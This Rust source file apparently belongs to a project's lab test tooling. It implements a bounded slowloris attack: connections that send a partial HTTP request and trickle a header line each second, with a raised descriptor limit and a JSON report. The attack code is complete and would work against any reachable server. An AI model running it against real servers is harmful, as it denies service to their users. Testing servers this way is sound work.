//! A slowloris, bounded in count and time: connections that start a request and never finish
//! its head, one header line a second. Each is opened once (no re-opening: on a loopback
//! target the server's TIME_WAITs would use up the ephemeral ports that probes need). Run as its own
//! process (`xtask slowloris`, hidden) inside a lab namespace, so that each attacker has a whole
//! file-descriptor limit of its own and together they can exceed the server's.
use std::{
    io::{self, Read as _, Write as _},
    net::{SocketAddr, TcpStream},
    time::{Duration, Instant},
};

use serde_json::{json, Value};

/// The line the attacker prints last: `slowloris: {json}`.
pub const RESULT_PREFIX: &str = "slowloris: ";

/// What one attacker did.
#[derive(Debug, Default, Clone, Copy)]
pub struct Report {
    /// Connections opened, each with a half-sent request.
    pub opened: u64,
    /// Of those, closed by the server (FIN or reset) while the attack ran.
    pub closed_by_server: u64,
    /// Connects that failed or timed out.
    pub connect_errors: u64,
    /// Most connections held open at once.
    pub peak_held: u64,
}

impl Report {
    pub fn to_json(self) -> Value {
        json!({
            "opened": self.opened,
            "closed_by_server": self.closed_by_server,
            "connect_errors": self.connect_errors,
            "peak_held": self.peak_held,
        })
    }

    /// The report in an attacker's output (its last `slowloris:` line).
    pub fn from_output(text: &str) -> Option<Report> {
        let line = text
            .lines()
            .rev()
            .find_map(|l| l.strip_prefix(RESULT_PREFIX))?;
        let value: Value = serde_json::from_str(line).ok()?;
        let count = |key: &str| value[key].as_u64();
        Some(Report {
            opened: count("opened")?,
            closed_by_server: count("closed_by_server")?,
            connect_errors: count("connect_errors")?,
            peak_held: count("peak_held")?,
        })
    }
}

/// Opens `connections` half-sent requests to `target`, at most `rate` a second (a slowloris
/// holds connections; a burst of new ones is a connection flood, another attack), and keeps
/// those the server leaves open trickling for `duration`.
pub fn attack(target: SocketAddr, connections: usize, rate: u32, duration: Duration) -> Report {
    raise_fd_limit();
    let started = Instant::now();
    let deadline = started + duration;
    let rate = f64::from(rate.max(1));
    let budget = connections as u64;
    let mut report = Report::default();
    let mut held: Vec<TcpStream> = Vec::new();
    while Instant::now() < deadline {
        while held.len() < connections && report.opened < budget && Instant::now() < deadline {
            let due = started + Duration::from_secs_f64(report.opened as f64 / rate);
            if let Some(wait) = due.checked_duration_since(Instant::now()) {
                std::thread::sleep(wait);
            }
            match open(target) {
                Ok(stream) => {
                    held.push(stream);
                    report.opened += 1;
                }
                Err(e) => {
                    if report.connect_errors == 0 {
                        eprintln!(
                            "slowloris: first connect error, at {} open: {e}",
                            held.len()
                        );
                    }
                    report.connect_errors += 1;
                    // A timeout already waited; out of ports or descriptors: try after a sweep.
                    if e.kind() != io::ErrorKind::TimedOut {
                        break;
                    }
                }
            }
        }
        report.peak_held = report.peak_held.max(held.len() as u64);
        std::thread::sleep(
            Duration::from_secs(1).min(deadline.saturating_duration_since(Instant::now())),
        );
        let before = held.len();
        held.retain_mut(still_open_after_one_more_line);
        report.closed_by_server += (before - held.len()) as u64;
    }
    report
}

fn open(target: SocketAddr) -> io::Result<TcpStream> {
    let mut stream = TcpStream::connect_timeout(&target, Duration::from_secs(1))?;
    stream.write_all(b"GET / HTTP/1.1\r\nHost: slowloris\r\n")?;
    stream.set_nonblocking(true)?;
    Ok(stream)
}

/// False when the server has closed the connection; else sends it one more header line.
fn still_open_after_one_more_line(stream: &mut TcpStream) -> bool {
    let mut buf = [0u8; 512];
    match stream.read(&mut buf) {
        Ok(0) => return false,
        // An answer (an error status) means the server gave up on the request: closing.
        Ok(_) => return false,
        Err(e) if e.kind() == io::ErrorKind::WouldBlock => {}
        Err(_) => return false,
    }
    // A partial line is fine: the point is to send little, slowly.
    match stream.write(b"X-Slow: 1\r\n") {
        Ok(0) => false,
        Ok(1..) => true,
        Err(e) => e.kind() == io::ErrorKind::WouldBlock,
    }
}

/// The soft file-descriptor limit up to the hard one: each attacker uses its whole budget.
fn raise_fd_limit() {
    let mut limit = libc::rlimit {
        rlim_cur: 0,
        rlim_max: 0,
    };
    // SAFETY: getrlimit writes only into the struct on this stack.
    if unsafe { libc::getrlimit(libc::RLIMIT_NOFILE, &mut limit) } == 0 {
        limit.rlim_cur = limit.rlim_max;
        // SAFETY: setrlimit only reads the struct.
        unsafe { libc::setrlimit(libc::RLIMIT_NOFILE, &limit) };
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_report_round_trips_through_the_output() {
        let report = Report {
            opened: 5,
            closed_by_server: 4,
            connect_errors: 1,
            peak_held: 3,
        };
        let output = format!(
            "ip netns exec x xtask slowloris\n{RESULT_PREFIX}{}\n",
            report.to_json()
        );
        let back = Report::from_output(&output).map(Report::to_json);
        assert_eq!(back, Some(report.to_json()));
        assert!(Report::from_output("nothing").is_none());
    }

    #[test]
    fn a_server_that_closes_half_sent_requests_is_seen_closing_them() {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("{e}"));
        let target = listener.local_addr().unwrap_or_else(|e| panic!("{e}"));
        // Accepts and closes at once: every connection is closed by the server.
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                drop(stream);
            }
        });
        let report = attack(target, 3, 1000, Duration::from_millis(2500));
        assert!(report.opened >= 3, "{report:?}");
        assert!(report.closed_by_server >= 3, "{report:?}");
        assert!(report.opened <= 3, "{report:?}");
    }
}
